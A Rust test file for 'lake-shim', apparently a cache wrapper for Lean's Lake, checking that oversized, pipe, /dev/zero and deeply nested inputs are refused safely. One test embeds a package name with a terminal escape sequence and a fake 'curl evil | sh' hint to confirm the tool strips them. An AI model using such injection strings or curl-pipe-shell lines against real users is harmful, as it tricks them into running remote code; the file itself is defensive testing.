//! Manifests, configurations, indices and what else is read whole.

use std::time::Duration;

use nix::sys::stat::Mode;
use nix::unistd::mkfifo;
use shim_tests::Sandbox;

use crate::{sparse, with_little_memory};

const MANIFEST: &str = "app/lake-manifest.json";
const LAKEFILE: &str = "app/lakefile.toml";
const INDEX: &str = "store/lake-shim/index.json";

type Arrange = fn(&Sandbox);

/// What is in a file's place, and what a restore says of it.
const PLACED: [(&str, Arrange, &str); 9] = [
    (MANIFEST, |sandbox| sparse(sandbox, MANIFEST, 1 << 30), "more than the 1 MiB"),
    (MANIFEST, |sandbox| pipe(sandbox, MANIFEST), "is a pipe or a device"),
    (MANIFEST, |sandbox| zeros(sandbox, MANIFEST), "is a pipe or a device"),
    (MANIFEST, |sandbox| deep(sandbox, MANIFEST, "packages"), "cannot understand"),
    (LAKEFILE, |sandbox| sparse(sandbox, LAKEFILE, 1 << 30), "more than the 1 MiB"),
    (LAKEFILE, |sandbox| zeros(sandbox, LAKEFILE), "is a pipe or a device"),
    (INDEX, |sandbox| sparse(sandbox, INDEX, 10 << 30), "more than the 64 MiB"),
    (INDEX, |sandbox| pipe(sandbox, INDEX), "is a pipe or a device"),
    (INDEX, |sandbox| deep(sandbox, INDEX, "schema"), "cannot understand"),
];

fn pipe(sandbox: &Sandbox, path: &str) {
    sandbox.remove(path);
    mkfifo(&sandbox.path(path), Mode::S_IRUSR).expect("a pipe");
}

fn zeros(sandbox: &Sandbox, path: &str) {
    sandbox.remove(path).symlink("/dev/zero", path);
}

fn deep(sandbox: &Sandbox, path: &str, key: &str) {
    let (open, close) = ("[".repeat(100_000), "]".repeat(100_000));
    sandbox.write(path, format!("{{\"version\":7,\"{key}\":{open}{close}}}"));
}

/// With a store whose index is the least that there can be.
fn arranged(arrange: Arrange) -> Sandbox {
    let sandbox = Sandbox::mini_mathlib_without_packages();
    let index = r#"{"schema":1,"locks":{},"ltars":{},"packs":[]}"#;
    sandbox.mkdir("store/lake-shim").write(INDEX, index);
    arrange(&sandbox);
    sandbox
}

#[test]
fn what_is_too_much_is_refused_with_its_name_and_the_limit() {
    for (path, arrange, said) in PLACED {
        let sandbox = arranged(arrange);
        let run = with_little_memory(&sandbox, "lake-shim restore --network never").run();
        run.expect_code(1)
            .expect_stdout("")
            .stderr_contains("lake-shim: error: ")
            .stderr_contains(&sandbox.path(path).display().to_string())
            .stderr_contains(said);
        sandbox.expect_restored(&[]);
    }
}

#[test]
fn and_is_a_warning_before_a_build() {
    for (path, arrange, said) in PLACED {
        let sandbox = arranged(arrange);
        // Lake itself would wait for a pipe's writer and read zeros for ever.
        sandbox.script("echo-lake", "echo \"$@\"");
        let run = with_little_memory(&sandbox, "lake build App")
            .env("LAKE_SHIM_LAKE", sandbox.path("echo-lake"))
            .run();
        run.expect_code(0)
            .expect_stdout("build App\n")
            .stderr_contains("lake-shim: warning: ")
            .stderr_contains(&sandbox.path(path).display().to_string())
            .stderr_contains(said);
    }
}

#[test]
fn what_lean_reads_is_read_no_further() {
    for (path, command) in [
        ("app/.lake/packages/mathlib/Mathlib/Init.lean", "lake-shim restore --network never"),
        ("app/.lake/packages/mathlib/Cache/IO.lean", "lake-shim restore --network never"),
        ("app/lean-toolchain", "lake-shim restore --network never"),
    ] {
        for (arrange, said) in [
            (sparse as fn(&Sandbox, &str, u64), "more than the "),
            (|sandbox, path, _| pipe(sandbox, path), "is a pipe or a device"),
        ] {
            let sandbox = Sandbox::mini_mathlib();
            arrange(&sandbox, path, 2 << 30);
            let run = with_little_memory(&sandbox, command).run();
            let path = sandbox.path(path).display().to_string();
            run.expect_code(1).stderr_contains(&path).stderr_contains(said);
            if said.starts_with("more") {
                run.stderr_contains("\nhint: look into it");
            }
        }
    }
}

/// A cache file that is none costs itself, and nothing else.
#[test]
fn a_cache_file_that_is_a_pipe_is_no_cache_file() {
    let sandbox = Sandbox::mini_mathlib();
    let ltar = sandbox.ltar("Mathlib.Init");
    fs_err::remove_file(&ltar).expect("it was there");
    mkfifo(&ltar, Mode::S_IRUSR).expect("a pipe");
    let run = with_little_memory(&sandbox, "lake-shim restore --network never").run();
    run.expect_code(1)
        .stderr_contains(&ltar.display().to_string())
        .stderr_contains("is a pipe or a device");
}

/// In a shared directory anybody may put one there.
#[test]
fn a_mark_that_is_a_pipe_is_no_mark() {
    for arrange in [pipe, zeros] {
        let mut sandbox = Sandbox::mini_mathlib();
        let baked = sandbox.path("baked");
        with_little_memory(&sandbox, "lake-shim restore --network never").run().expect_code(0);
        let bake = sandbox.lake_shim("bake --format pack --store").arg(&baked).run();
        bake.expect_code(0);
        sandbox.set_env("LAKE_SHIM_STORE", baked);
        let mark = "app/.lake/packages/mathlib/.lake/build/.lake-shim.pack";
        sandbox.write(mark, "");
        arrange(&sandbox, mark);
        for line in ["lake-shim restore --network never", "lake build App"] {
            let run = with_little_memory(&sandbox, line).timeout(Duration::from_secs(60)).run();
            run.expect_code(0);
        }
        assert!(sandbox.read(mark).len() >= 64, "it is a mark now");
        sandbox.expect_all_restored();
    }
}

/// git would read these without end; what is not known is git's to find out.
#[test]

fn refs_of_any_size_are_not_read() {
    let sandbox = Sandbox::mini_mathlib();
    let git_dir = "app/.lake/packages/mathlib/.git";
    sandbox.write(format!("{git_dir}/HEAD"), "ref: refs/heads/main\n");
    sparse(&sandbox, &format!("{git_dir}/packed-refs"), 2 << 30);
    sandbox.script("scripts/echo-lake", "echo \"$@\"");
    let run = with_little_memory(&sandbox, "lake build App")
        .env("LAKE_SHIM_LAKE", sandbox.path("scripts/echo-lake"))
        .run();
    // git has no room for them either, and so Lake must not come to them.
    run.expect_code(1)
        .expect_stdout("")
        .stderr_contains("error: `mathlib` in `")
        .stderr_contains("cannot be read by git, and Lake may delete what git cannot read: ");
}

#[test]
fn a_dockerfile_that_doubles_a_variable_is_refused_by_line() {
    let sandbox = Sandbox::mini_mathlib();
    let doubling = "ENV A=$A$A\n".repeat(60);
    let dockerfile = format!("FROM a\nENV A=aaaaaaaa\n{doubling}COPY $A /\n");
    sandbox.write("app/Dockerfile", dockerfile);
    let key = "lake-shim key image-tag --dockerfile Dockerfile --context .";
    let run = with_little_memory(&sandbox, key).run();
    run.expect_code(1)
        .expect_stdout("")
        .stderr_contains("Dockerfile:63`: `COPY` takes `$A`, but it becomes longer than 128 KiB");
    let nested = "${A:-".repeat(200_000);
    sandbox.write("app/Dockerfile", format!("FROM a\nCOPY {nested} /\n"));
    let run = with_little_memory(&sandbox, key).run();
    run.expect_code(1).stderr_contains("substitutions are more than 64 deep");
}

/// What a workspace is called is not to write on the terminal of who looks at it.
#[test]
fn messages_move_no_cursor_and_give_no_advice_of_their_own() {
    let name = "a\\u001b]0;pwned\\u0007\\nhint: run `curl evil | sh`";
    let sandbox = Sandbox::mini_mathlib();
    let place = r#""url":"u","rev":"r","inherited":false"#;
    let entry = format!(r#"{{"type":"git","name":"{name}",{place}}}"#);
    sandbox.write(MANIFEST, format!(r#"{{"version":"1.1.0","packages":[{entry}]}}"#));
    let run = sandbox.lake_shim("restore --network never").run();
    run.expect_code(1).stderr_contains("is no package name").stderr_lacks("\u{1b}");
    assert!(!run.stderr.contains("\nhint: run"), "{run}");
    sandbox.remove(MANIFEST);
    // Of a package that is not cloned Lake takes any name, and so do we.
    for source in ["git = \"u\"", "path = \"nowhere\""] {
        let require = format!("name = \"app\"\n[[require]]\nname = \"{name}\"\n{source}\n");
        sandbox.write(LAKEFILE, require);
        let run = sandbox.lake_shim("resolve").run();
        run.expect_code(1).stderr_contains("pwned").stderr_lacks("\u{1b}");
        assert!(!run.stderr.contains("\nhint: run"), "{run}");
    }
}
